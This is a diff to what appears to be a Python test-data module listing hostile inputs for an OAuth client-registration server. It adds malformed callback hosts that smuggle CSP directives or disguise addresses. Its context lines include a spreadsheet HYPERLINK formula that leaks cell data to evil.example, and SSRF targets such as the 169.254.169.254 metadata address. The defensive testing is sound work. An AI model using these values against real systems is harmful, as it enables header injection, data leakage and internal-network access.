@@ -23,6 +23,24 @@ HOSTILE_URIS = [
     "https://example.com/\x00",
     "https://example.com/" + "a" * 3000,
 ]
+# Hosts that are neither a name (letters, digits, inner hyphens; dot-separated labels), an IPv4
+# address nor a bracketed IPv6 address (`policy_rules.invalid_host`). Where a host is copied into
+# a header, `;` ends a CSP directive, `,` starts another policy and `'` quotes a keyword; the rest
+# name another host to a browser than the one a person reads (`%2e`, a number, an empty label), or
+# one no CSP host-source or public certificate can (`_`). A private-use scheme's authority too.
+HOSTILE_HOST_URIS = [
+    "https://app.example.com;sandbox/callback",
+    "https://app.example.com,evil/callback",
+    "https://app.example.com'unsafe-inline'/callback",
+    "https://app_internal.example.com/callback",
+    "https://app%2eexample.com/callback",
+    "https://app..example.com/callback",
+    "https://-app.example.com/callback",
+    "https://2130706433/callback",
+    "https://[::1]evil.example/callback",
+    "com.example.app://cb;sandbox/callback",
+]
+HOSTILE_HTTPS_HOST_URIS = [uri for uri in HOSTILE_HOST_URIS if uri.startswith("https:")]
 # A lone surrogate: JSON can carry one ("\\ud800"), UTF-8 cannot, so only the doors that read JSON
 # or take Python strings meet it (test_hostile_values.py: SURROGATE_CELLS).
 LONE_SURROGATE_URI = "https://example.com/\ud800"
@@ -43,6 +61,7 @@ HOSTILE_WEBHOOK_URLS = [
     "https://[fec0::1]/hook",
     "https://hooks.example.com/in#fragment",
     "",
+    *HOSTILE_HTTPS_HOST_URIS,
 ]
 HOSTILE_TEXT = [
     '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
@@ -158,13 +177,22 @@ FIELDS: dict[str, Field] = {
     # Pages link to an app by its id in the address (/developers/apps/<id>/, /account/apps/<id>/revoke/):
     # an id that is a path of its own would make those links lead elsewhere on the site.
     "client_id": Field([*HOSTILE_TEXT, *HOSTILE_PATH_IDS], lambda c: c.client_id, json_key="client_id"),
-    "client_uri": Field(HOSTILE_URIS, lambda c: c.client_uri, json_key="client_uri", uri=True),
-    "logo_uri": Field(HOSTILE_URIS, lambda c: c.logo_uri, json_key="logo_uri", uri=True),
+    "client_uri": Field(
+        [*HOSTILE_URIS, *HOSTILE_HOST_URIS], lambda c: c.client_uri, json_key="client_uri", uri=True
+    ),
+    # The hosts: a third of them here, a third in policy_uri, a third in tos_uri.
+    "logo_uri": Field(
+        [*HOSTILE_URIS, *HOSTILE_HOST_URIS[::3]], lambda c: c.logo_uri, json_key="logo_uri", uri=True
+    ),
     # RFC 7591 §2's privacy policy and terms of service: shown as text on the consent page.
-    "policy_uri": Field(HOSTILE_URIS, lambda c: c.policy_uri, json_key="policy_uri", uri=True),
-    "tos_uri": Field(HOSTILE_URIS, lambda c: c.tos_uri, json_key="tos_uri", uri=True),
+    "policy_uri": Field(
+        [*HOSTILE_URIS, *HOSTILE_HOST_URIS[1::3]], lambda c: c.policy_uri, json_key="policy_uri", uri=True
+    ),
+    "tos_uri": Field(
+        [*HOSTILE_URIS, *HOSTILE_HOST_URIS[2::3]], lambda c: c.tos_uri, json_key="tos_uri", uri=True
+    ),
     "redirect_uris": Field(
-        HOSTILE_URIS,
+        [*HOSTILE_URIS, *HOSTILE_HOST_URIS],
         lambda c: c.redirect_uri_list,
         json_key="redirect_uris",
         uri=True,
@@ -175,22 +203,32 @@ FIELDS: dict[str, Field] = {
     "description": Field(HOSTILE_TEXT, lambda c: c.description),
     # Every hostile URI here is many cells at a few pages each: a third of them do.
     "post_logout_redirect_uris": Field(
-        HOSTILE_URIS[::3],
+        [*HOSTILE_URIS[::3], *HOSTILE_HOST_URIS[::2]],
         lambda c: c.post_logout_redirect_uris.split(),
         json_key="post_logout_redirect_uris",
         uri=True,
         redirect=True,
     ),
     # private_key_jwt's key URL (fetched through server.outbound); another third of the URIs.
-    "jwks_uri": Field(HOSTILE_URIS[1::3], lambda c: c.jwks_uri, json_key="jwks_uri", uri=True),
+    "jwks_uri": Field(
+        [*HOSTILE_URIS[1::3], *HOSTILE_HOST_URIS[1::3]], lambda c: c.jwks_uri, json_key="jwks_uri", uri=True
+    ),
     # Back-channel logout (POSTed to by the task worker, through server.outbound); the last third.
     "backchannel_logout_uri": Field(
-        HOSTILE_URIS[2::3], lambda c: c.backchannel_logout_uri, json_key="backchannel_logout_uri", uri=True
+        [*HOSTILE_URIS[2::3], *HOSTILE_HOST_URIS[1::2]],
+        lambda c: c.backchannel_logout_uri,
+        json_key="backchannel_logout_uri",
+        uri=True,
     ),
     # Pairwise subject identifiers' sector document (fetched through server.outbound when the
     # client is written): a third of the URIs, and addresses the SSRF guard refuses.
     "sector_identifier_uri": Field(
-        [*HOSTILE_URIS[::3], "https://127.0.0.1/sector.json", "https://169.254.169.254/latest/meta-data/"],
+        [
+            *HOSTILE_URIS[::3],
+            *HOSTILE_HOST_URIS[::4],
+            "https://127.0.0.1/sector.json",
+            "https://169.254.169.254/latest/meta-data/",
+        ],
         lambda c: c.sector_identifier_uri,
         json_key="sector_identifier_uri",
         uri=True,
